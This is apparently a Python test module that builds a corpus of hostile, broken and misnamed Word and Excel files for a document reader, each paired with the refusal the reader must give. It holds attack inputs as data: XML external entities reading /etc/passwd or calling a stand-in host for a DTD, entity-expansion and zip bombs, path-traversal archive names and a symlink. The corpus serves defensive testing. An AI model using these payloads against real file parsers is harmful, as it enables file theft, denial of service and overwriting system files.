"""A corpus of hostile, broken and misnamed files, each made on the spot, with the refusal that it must meet."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
from collections.abc import Callable
from typing import Final

from dhr_desktop.readers.refusals import Refusal
from tests.readers.building import (
    TYPES,
    S,
    W,
    cell,
    excel,
    excel_parts,
    paragraph,
    sheet_row,
    table,
    word,
    word_parts,
    zipped,
)

Hostile = tuple[str, Callable[[], bytes], Refusal]

_GOOD_WORD: Final = word(paragraph("Aldersford") + table([["Recommendation", "Action to take"], ["1", "2"]]))
_GOOD_EXCEL: Final = excel(sheet_row(1, "Recommendation", "Action to take"))
_OLE: Final = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def _with(parts: dict[str, bytes | str], **changes: bytes | str) -> bytes:
    return zipped(
        parts | {name.replace("__", "/").replace("_xml", ".xml"): data for name, data in changes.items()}
    )


def _document(prologue: str, body: str = "", encoding: str = "utf-8") -> bytes:
    text = f'{prologue}<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>{body}</w:t></w:r></w:p></w:body></w:document>'
    return _with(word_parts(""), word__document_xml=text.encode(encoding))


def _billion_laughs() -> bytes:
    lines = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    return _document(f"<?xml version='1.0'?><!DOCTYPE x [{lines}]>", "&a9;")


def _quadratic() -> bytes:
    return _document(f"<!DOCTYPE x [<!ENTITY a '{'a' * 50_000}'>]>", "&a;" * 5_000)


def _reads_a_file() -> bytes:
    return _document("<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>", "&a;")


def _calls_home() -> bytes:
    return _document("<!DOCTYPE x [<!ENTITY % a SYSTEM 'http://192.0.2.1/evil.dtd'> %a;]>")


def _outside_dtd() -> bytes:
    return _document("<!DOCTYPE x SYSTEM 'http://192.0.2.1/evil.dtd'>", "x")


def _utf16_entities() -> bytes:
    return _document("<?xml version='1.0' encoding='utf-16'?><!DOCTYPE x [<!ENTITY a 'b'>]>", "&a;", "utf-16")


def _odd_xml_encoding() -> bytes:
    return _document("<?xml version='1.0' encoding='utf-7'?>", "x")


def _late_entities() -> bytes:
    return _document(
        "<?xml version='1.0'?>" + "<!--" + "x" * 100_000 + "--><!DOCTYPE x [<!ENTITY a 'b'>]>", "&a;"
    )


def _entities_in_rels() -> bytes:
    rels = "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><Relationships/>"
    return zipped(word_parts("") | {"_rels/.rels": rels})


def _entities_in_strings() -> bytes:
    text = f'<!DOCTYPE x [<!ENTITY a "b">]><sst xmlns="{S}"><si><t>&a;</t></si></sst>'
    return _with(excel_parts(""), xl__sharedStrings_xml=text)


def _zip_bomb() -> bytes:
    return _with(word_parts(""), word__media__x_xml=b"\x00" * 210_000_000)


def _lying_document() -> bytes:
    """A document whose listed size is far below what it unpacks to."""
    body = paragraph("x" * 1000) * 5_000
    data = bytearray(word(body))
    for signature, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            if struct.unpack_from("<I", data, start + offset)[0] > 1_000_000:
                struct.pack_into("<I", data, start + offset, 1_000)
            start += 4
    return bytes(data)


def _tree_bomb() -> bytes:
    """Well under the size limit, but its tree would need gigabytes."""
    return word("<w:p/>" * 10_000_000)


def _many_parts() -> bytes:
    return zipped(word_parts("") | {f"junk/{i}": b"" for i in range(1_001)})


def _doubled_part() -> bytes:
    file = io.BytesIO(_GOOD_WORD)
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("WORD/document.xml", "<x/>")
    return file.getvalue()


def _renamed(name: str) -> bytes:
    placeholder = "q" * len(name)
    return zipped(word_parts("") | {placeholder: b"x"}).replace(placeholder.encode(), name.encode())


def _symlink() -> bytes:
    file = io.BytesIO(_GOOD_WORD)
    with zipfile.ZipFile(file, "a") as archive:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return file.getvalue()


def _encrypted_part() -> bytes:
    data = bytearray(_GOOD_WORD)
    for signature, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        start = data.find(signature)
        data[start + offset] |= 1
    return bytes(data)


def _bad_checksum() -> bytes:
    data = bytearray(zipped(word_parts(paragraph("Aldersford" * 50)), zipfile.ZIP_STORED))
    data[data.find(b"Aldersford")] = ord("B")
    return bytes(data)


def _nested(depth: int) -> bytes:
    return word("<w:sdt><w:sdtContent>" * depth + paragraph("deep") + "</w:sdtContent></w:sdt>" * depth)


def _nested_tables() -> bytes:
    inner = paragraph("deep")
    for _ in range(200):
        inner = f"<w:tbl><w:tr><w:tc>{inner}</w:tc></w:tr></w:tbl>"
    return word(inner)


def _nested_zip() -> bytes:
    data = _GOOD_WORD
    for _ in range(20):
        data = zipped({"inner.zip": data})
    return data


def _corner_cell() -> bytes:
    return excel('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


def _far_row() -> bytes:
    return excel('<row r="1048576"><c r="A1048576"><v>1</v></c></row>')


def _huge_merge() -> bytes:
    merges = "".join(f'<mergeCell ref="A1:XFD{n}"/>' for n in range(1, 60_000))
    return excel(
        "".join(sheet_row(n, "x") for n in range(1, 2_000)), after=f"<mergeCells>{merges}</mergeCells>"
    )


def _bad_string_index() -> bytes:
    return excel('<row r="1"><c t="s"><v>99999999</v></c></row>')


def _loop_of_pointers() -> bytes:
    parts = excel_parts("")
    parts["xl/_rels/workbook.xml.rels"] = str(parts["xl/_rels/workbook.xml.rels"]).replace(
        "worksheets/sheet1.xml", "workbook.xml/../missing.xml"
    )
    return zipped(parts)


def _wide_word_table() -> bytes:
    return word(table([[cell("x", '<w:gridSpan w:val="999999"/>')]]))


def _open_document() -> bytes:
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"})


CORPUS: Final[tuple[Hostile, ...]] = (
    ("nothing.docx", lambda: b"", Refusal.EMPTY),
    ("one-byte.docx", lambda: b"P", Refusal.IS_TEXT),
    (
        "html.docx",
        lambda: b"<!DOCTYPE html><html><table><tr><td>x</td></tr></table></html>",
        Refusal.WEB_PAGE,
    ),
    ("html.xlsx", lambda: b"\xef\xbb\xbf  <html><script>alert(1)</script></html>", Refusal.WEB_PAGE),
    ("html16.xlsx", lambda: "\ufeff<html></html>".encode("utf-16-le"), Refusal.WEB_PAGE),
    ("mht.docx", lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related", Refusal.WEB_PAGE),
    (
        "flat.xml.docx",
        lambda: b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><x/>",
        Refusal.XML,
    ),
    ("spreadsheet2003.xlsx", lambda: b"<?xml version='1.0'?><Workbook/>", Refusal.XML),
    ("text.docx", lambda: b"Just a letter.\n", Refusal.IS_TEXT),
    ("rtf.docx", lambda: b"{\\rtf1\\ansi hello}", Refusal.RICH_TEXT),
    ("pdf.docx", lambda: b"%PDF-1.7\n%\xe2\xe3", Refusal.PDF),
    ("picture.docx", lambda: b"\x89PNG\r\n\x1a\n", Refusal.PICTURE),
    ("photo.xlsx", lambda: b"\xff\xd8\xff\xe0JFIF", Refusal.PICTURE),
    ("program.docx", lambda: b"MZ\x90\x00" + b"\x00" * 100, Refusal.UNKNOWN),
    ("archive.docx", lambda: b"7z\xbc\xaf'\x1c\x00", Refusal.ARCHIVE),
    ("gzip.docx", lambda: gzip.compress(_GOOD_WORD), Refusal.ARCHIVE),
    ("old.doc", lambda: _OLE + "WordDocument".encode("utf-16-le"), Refusal.OLD_WORD),
    ("old.xls", lambda: _OLE + "Workbook".encode("utf-16-le"), Refusal.OLD_EXCEL),
    ("older.xls", lambda: b"\x09\x08\x08\x00\x00\x05\x10\x00", Refusal.OLD_EXCEL),
    ("locked.docx", lambda: _OLE + "EncryptedPackage".encode("utf-16-le"), Refusal.LOCKED),
    ("message.msg", lambda: _OLE + b"\x00" * 4000, Refusal.OLD_OFFICE),
    ("open.odt", _open_document, Refusal.OPEN_DOCUMENT),
    ("slides.pptx", lambda: zipped({"ppt/presentation.xml": b"<x/>"}), Refusal.POWERPOINT),
    ("binary.xlsb", lambda: zipped({"xl/workbook.bin": b"\x83\x01"}), Refusal.BINARY_EXCEL),
    ("plain.zip", lambda: zipped({"letter.txt": b"x"}), Refusal.ARCHIVE),
    ("empty.zip", lambda: zipped({}), Refusal.EMPTY),
    ("nested.zip", _nested_zip, Refusal.ARCHIVE),
    ("cut-half.docx", lambda: _GOOD_WORD[: len(_GOOD_WORD) // 2], Refusal.DAMAGED),
    ("cut-end.xlsx", lambda: _GOOD_EXCEL[:-10], Refusal.DAMAGED),
    ("head-only.docx", lambda: b"PK\x03\x04", Refusal.DAMAGED),
    ("noise.docx", lambda: b"PK\x03\x04" + bytes(range(256)) * 40, Refusal.DAMAGED),
    ("checksum.docx", _bad_checksum, Refusal.DAMAGED),
    ("encrypted-part.docx", _encrypted_part, Refusal.LOCKED),
    ("lzma.docx", lambda: zipped(word_parts(""), zipfile.ZIP_LZMA), Refusal.DAMAGED),
    ("bzip2.docx", lambda: zipped(word_parts(""), zipfile.ZIP_BZIP2), Refusal.DAMAGED),
    ("bomb.docx", _zip_bomb, Refusal.UNPACKS_TOO_LARGE),
    ("lying.docx", _lying_document, Refusal.DAMAGED),
    ("tree-bomb.docx", _tree_bomb, Refusal.TOO_MUCH),
    ("many-parts.docx", _many_parts, Refusal.TOO_MANY_PARTS),
    ("doubled.docx", _doubled_part, Refusal.UNSAFE),
    ("slip-up.docx", lambda: _renamed("../../evil.exe"), Refusal.UNSAFE),
    ("slip-inside.docx", lambda: _renamed("word/../../evil"), Refusal.UNSAFE),
    ("slip-absolute.docx", lambda: _renamed("/etc/cron.d/evil"), Refusal.UNSAFE),
    ("slip-windows.docx", lambda: _renamed("..\\..\\evil.exe"), Refusal.UNSAFE),
    ("slip-drive.docx", lambda: _renamed("C:/Windows/evil"), Refusal.UNSAFE),
    ("slip-nul.docx", lambda: _renamed("word/x.xml\x00.exe"), Refusal.UNSAFE),
    ("slip-link.docx", _symlink, Refusal.UNSAFE),
    (
        "name-right-to-left.docx",
        lambda: zipped(word_parts("") | {"word/\u202excod.exe": b""}),
        Refusal.UNSAFE,
    ),
    ("name-control.docx", lambda: zipped(word_parts("") | {"word/\x1b[2Jx": b""}), Refusal.UNSAFE),
    ("laughs.docx", _billion_laughs, Refusal.UNSAFE),
    ("quadratic.docx", _quadratic, Refusal.UNSAFE),
    ("file-entity.docx", _reads_a_file, Refusal.UNSAFE),
    ("calls-home.docx", _calls_home, Refusal.UNSAFE),
    ("outside-dtd.docx", _outside_dtd, Refusal.UNSAFE),
    ("entity-utf16.docx", _utf16_entities, Refusal.UNSAFE),
    ("entity-late.docx", _late_entities, Refusal.UNSAFE),
    ("entity-rels.docx", _entities_in_rels, Refusal.UNSAFE),
    ("entity-strings.xlsx", _entities_in_strings, Refusal.UNSAFE),
    ("utf7.docx", _odd_xml_encoding, Refusal.DAMAGED),
    ("no-body.docx", lambda: _with(word_parts(""), word__document_xml=b"<x/>"), Refusal.DAMAGED),
    ("not-xml.docx", lambda: _with(word_parts(""), word__document_xml=b"\x00\x01\x02"), Refusal.DAMAGED),
    ("unclosed.docx", lambda: _with(word_parts(""), word__document_xml=b"<w:document"), Refusal.DAMAGED),
    ("deep.docx", lambda: _nested(5_000), Refusal.TOO_DEEP),
    ("deep-tables.docx", _nested_tables, Refusal.TOO_DEEP),
    ("wide.docx", _wide_word_table, Refusal.TOO_MANY_COLUMNS),
    ("long-text.docx", lambda: word(paragraph("x" * 11_000_000)), Refusal.TOO_MUCH),
    ("corner.xlsx", _corner_cell, Refusal.TOO_MANY_COLUMNS),
    ("far-row.xlsx", _far_row, Refusal.TOO_MANY_ROWS),
    ("huge-merge.xlsx", _huge_merge, Refusal.TOO_MUCH),
    ("bad-index.xlsx", _bad_string_index, Refusal.DAMAGED),
    ("lost-sheet.xlsx", _loop_of_pointers, Refusal.DAMAGED),
    ("types-only.docx", lambda: zipped({"[Content_Types].xml": TYPES}), Refusal.ARCHIVE),
)
